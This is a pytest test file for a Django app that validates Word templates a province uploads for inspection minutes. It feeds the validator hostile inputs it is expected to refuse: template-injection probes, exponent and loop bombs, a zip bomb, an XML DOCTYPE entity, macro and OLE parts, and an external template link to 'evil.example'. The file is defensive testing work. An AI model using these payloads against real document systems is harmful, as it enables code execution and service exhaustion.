"""A province's own form of the minutes: what is taken in, what is refused in words, how it is used."""

import io
import zipfile

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from criteria.evidence import UploadRefused
from inspections.minutes import files, word
from inspections.minutes.data import gather
from inspections.minutes.word import FIELDS, Listed, TemplateRefused, check_template, draw_word, fields
from inspections.models import MinutesTemplate
from tests.inspections.test_minutes import concluded, words_of

NEEDED = "{{ xa }} {{ ket_luan }} {% for tc in tieu_chi %}{{ tc.ten }}{% endfor %}"


def form(*paragraphs: str, name: str = "mau.docx", needed: str = NEEDED) -> SimpleUploadedFile:
    """A Word form that holds these paragraphs and the fields every form needs."""
    document = Document()
    for text in (needed, *paragraphs):
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def repacked(change, add: dict | None = None) -> SimpleUploadedFile:
    """The built-in form with its parts changed: `change(name, bytes)`, and others added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(word.BUILT_IN) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return SimpleUploadedFile("mau.docx", buffer.getvalue())


def same(name: str, content: bytes) -> bytes:
    return content


def url(name, province):
    return reverse(f"inspections:{name}", args=[province.pk])


# --- fields ----------------------------------------------------------------------------


def names(described) -> dict:
    """The names of fields, those of a list's rows within."""
    return {name: names(meaning.fields) if isinstance(meaning, Listed) else None for name, meaning in described.items()}


def given(context) -> dict:
    return {name: given(value[0]) if isinstance(value, list) and value else None for name, value in context.items()}


def test_every_described_field_is_filled_and_no_other():
    assert given(fields(word._sample())) == names(FIELDS)


def test_the_built_in_form_passes_its_own_check():
    check_template(SimpleUploadedFile("mau.docx", word.BUILT_IN.read_bytes()))


def test_a_field_that_word_split_into_runs_is_read():
    document = Document()
    document.add_paragraph(NEEDED)
    paragraph = document.add_paragraph()
    for piece in ("{", "{ dia_", "danh", "_ngay }", "}"):
        paragraph.add_run(piece)
    buffer = io.BytesIO()
    document.save(buffer)
    check_template(SimpleUploadedFile("mau.docx", buffer.getvalue()))


@pytest.mark.parametrize(
    "text",
    [
        "{% if quyet_dinh %}Căn cứ {{ quyet_dinh }}{% else %}Không{% endif %}",
        "{% for d in doan %}{{ loop.index }}. {{ d.gioi_thieu }}{% endfor %}",
        "{% for tc in tieu_chi %}{% for ct in tc.chi_tieu %}{{ ct.ma }}{% endfor %}{% endfor %}",
        "{% for tc in tieu_chi %}{% if tc.doan_danh_gia == 'Đạt' and not tc.ton_tai %}x{% endif %}{% endfor %}",
        "{% if not doan %}Chưa có đoàn{% endif %}",
        "{# ghi chú #}",
    ],
)
def test_fields_loops_and_conditions_are_taken(text):
    check_template(form(text))


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("{{ ten_xa }}", "{{ ten_xa }}"),
        ("{% for tc in tieu_chi %}{{ tc.diem }}{% endfor %}", "{{ tc.diem }}"),
        ("{% for d in thanh_vien %}{{ d.ho_ten }}{% endfor %}", "{{ thanh_vien }}"),
        ("{% if lanh_dao %}x{% endif %}", "{{ lanh_dao }}"),
        ("{{ xa.__class__ }}", "{{ xa.__class__ }}"),
        ("{{ doan.ho_ten }}", "{{ doan.ho_ten }}"),
    ],
)
def test_unknown_fields_are_listed(text, named):
    with pytest.raises(TemplateRefused) as refused:
        check_template(form(text, "{{ khong_co }}"))
    assert named in str(refused.value)
    assert "{{ khong_co }}" in str(refused.value)


@pytest.mark.parametrize(
    "text",
    [
        "{{ 9 ** 99999999 }}",
        "{{ xa * 1000000 }}",
        "{{ ''.__class__.__mro__ }}",
        "{% set x = 1 %}",
        "{% macro m() %}{% endmacro %}",
        "{% include 'x' %}",
        "{{ range(10) }}",
        "{{ xa | upper }}",
        "{% for x in range(99999999) %}x{% endfor %}",
        "{% for a in doan %}{% for b in doan %}{% for c in doan %}x{% endfor %}{% endfor %}{% endfor %}",
        "{{ tieu_chi }}",
        "{% for tc in tieu_chi %}{{ tc }}{% endfor %}",
        "{% for tc in tieu_chi if tc.so %}x{% endfor %}",
    ],
)
def test_commands_are_refused(text):
    with pytest.raises(TemplateRefused, match=r"không được phép|không có trong danh sách"):
        check_template(form(text))


@pytest.mark.parametrize(
    "text", ["{{ xa", "{% for d in doan %}", "{% if xa %}", "{{ xa }} {% endfor %}", "{{ xa xa }}"]
)
def test_wrong_syntax_is_told(text):
    with pytest.raises(TemplateRefused, match="sai cú pháp"):
        check_template(form(text))


def test_a_form_without_the_needed_fields_is_refused():
    with pytest.raises(TemplateRefused, match="bắt buộc: tieu_chi, ket_luan"):
        check_template(form(needed="{{ xa }}"))


def test_fields_in_headers_footers_and_properties_are_judged_too():
    for place in ("header", "footer"):
        document = Document()
        document.add_paragraph(NEEDED)
        getattr(document.sections[0], place).paragraphs[0].text = "{{ la }}"
        buffer = io.BytesIO()
        document.save(buffer)
        with pytest.raises(TemplateRefused, match=r"\{\{ la \}\}"):
            check_template(SimpleUploadedFile("mau.docx", buffer.getvalue()))
    document = Document()
    document.add_paragraph(NEEDED)
    document.core_properties.title = "{{ 7 * 7 }}"
    buffer = io.BytesIO()
    document.save(buffer)
    with pytest.raises(TemplateRefused, match="không được phép"):
        check_template(SimpleUploadedFile("mau.docx", buffer.getvalue()))


def test_a_field_where_word_can_t_show_it_is_refused():
    with pytest.raises(TemplateRefused, match="đặt trường sai chỗ"):
        check_template(form("{{p xa }}"))


# --- files -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("file", "message"),
    [
        (lambda: SimpleUploadedFile("mau.docx", b"PK\x03\x04 broken"), "hỏng"),
        (lambda: SimpleUploadedFile("mau.docx", b"just text"), "nội dung là"),
        (lambda: SimpleUploadedFile("mau.docx", b""), "rỗng"),
        (lambda: SimpleUploadedFile("mau.docm", word.BUILT_IN.read_bytes()), "macro"),
        (lambda: SimpleUploadedFile("mau.png", b"\x89PNG"), "không mở được|nội dung là"),
        (lambda: repacked(same, {"word/vbaProject.bin": b"x"}), "macro"),
        (lambda: repacked(same, {"word/embeddings/oleObject1.bin": b"x"}), "đối tượng nhúng"),
        (lambda: repacked(same, {"word/big.xml": b" " * 60_000_000}), "bung ra quá lớn|quá dài"),
        (lambda: repacked(same, {"word/long.xml": bytes(range(32, 127)) * 60_000}), "bung ra quá lớn|quá dài"),
        (lambda: repacked(same, {"word/large.bin": __import__("os").urandom(3_000_000)}), "vượt quá 2 MB"),
        (
            lambda: repacked(
                lambda name, content: (
                    content.replace(b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document", 1)
                    if name == "word/document.xml"
                    else content
                )
            ),
            "XML không bình thường",
        ),
        (
            lambda: repacked(
                lambda name, content: (
                    content.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
                        b"</Relationships>",
                    )
                    if name == "word/_rels/document.xml.rels"
                    else content
                )
            ),
            "liên kết tới tệp ở nơi khác",
        ),
        (
            lambda: repacked(lambda name, content: b"<broken" if name == "word/document.xml" else content),
            "Không đọc được mẫu",
        ),
    ],
)
def test_files_that_are_no_honest_form_are_refused(file, message):
    with pytest.raises((UploadRefused, TemplateRefused), match=message):
        check_template(file())


# --- using it --------------------------------------------------------------------------


def test_the_province_s_form_is_used_from_then_on_and_can_be_given_up(place, visit):
    client = place.client(place.coordinator)
    answer = client.post(url("minutes_template", place.province), {"file": form("Theo mẫu của tỉnh ta")})
    assert answer.status_code == 302
    assert "Theo mẫu của tỉnh ta" in words_of(files.draw_draft(visit, "word"))
    assert "mau.docx" in client.get(url("minutes_template", place.province)).content.decode()
    visit = concluded(place, visit)
    frozen = visit.minutes_files.get(kind="word")
    assert frozen.template == MinutesTemplate.objects.get()
    content = b"".join(client.get(url("minutes_template_file", place.province)))
    assert "Theo mẫu của tỉnh ta" in words_of(content)
    assert client.post(url("minutes_template_reset", place.province)).status_code == 302
    assert files.template_of(place.province) is None
    assert MinutesTemplate.objects.count() == 1  # kept
    assert "Theo mẫu của tỉnh ta" not in words_of(b"".join(client.get(url("minutes_template_file", place.province))))


def test_a_new_form_takes_the_place_of_the_last(place):
    for text in ("Một", "Hai"):
        files.set_template(place.province, form(text), by=place.coordinator)
    assert "Hai" in words_of(files.template_bytes(files.template_of(place.province)))
    assert MinutesTemplate.objects.filter(retired_at__isnull=True).count() == 1


def test_a_refused_form_changes_nothing_and_the_page_says_why(place):
    answer = place.client(place.coordinator).post(
        url("minutes_template", place.province), {"file": form("{{ ten_xa }}")}
    )
    assert answer.status_code == 422
    assert "{{ ten_xa }}" in answer.content.decode()
    assert not MinutesTemplate.objects.exists()


def test_a_form_that_fails_at_the_conclusion_gives_way_and_the_row_says_so(place, visit):
    files.set_template(place.province, form("Riêng"), by=place.coordinator)
    stored = files.stored_path(str(files.template_of(place.province).file.name))
    stored.write_bytes(b"no longer a document")
    visit = concluded(place, visit)
    frozen = visit.minutes_files.get(kind="word")
    assert frozen.template is None
    assert "mẫu chung" in frozen.note
    page = place.client(place.leader).get(reverse("inspections:visit_minutes", args=[visit.pk])).content.decode()
    assert "Mẫu biên bản của tỉnh không dùng được" in page


def test_a_form_of_one_s_own_is_marked_as_a_draft_and_as_invented(place, visit):
    files.set_template(place.province, form("Riêng"), by=place.coordinator)
    text = words_of(draw_word(gather(visit), files.template_bytes(files.template_of(place.province))))
    assert "DỰ THẢO" in text
    assert "Dữ liệu minh họa" in text


def test_only_the_province_s_coordinator_changes_it(place):
    expected = {
        "coordinator": 200, "leader": 404, "district_staff": 404, "officer": 404, "reviewer": 403, "viewer": 403,
        "stranger": 404,
    }  # fmt: skip
    for name in ("minutes_template", "minutes_template_file"):
        found = {}
        for who in expected:
            answer = place.client(getattr(place, who)).get(url(name, place.province))
            b"".join(answer)
            found[who] = answer.status_code
        assert found == expected, name
    with pytest.raises(PermissionDenied):
        files.set_template(place.province, form(), by=place.leader)
    with pytest.raises(PermissionDenied):
        files.reset_template(place.province, by=place.viewer)
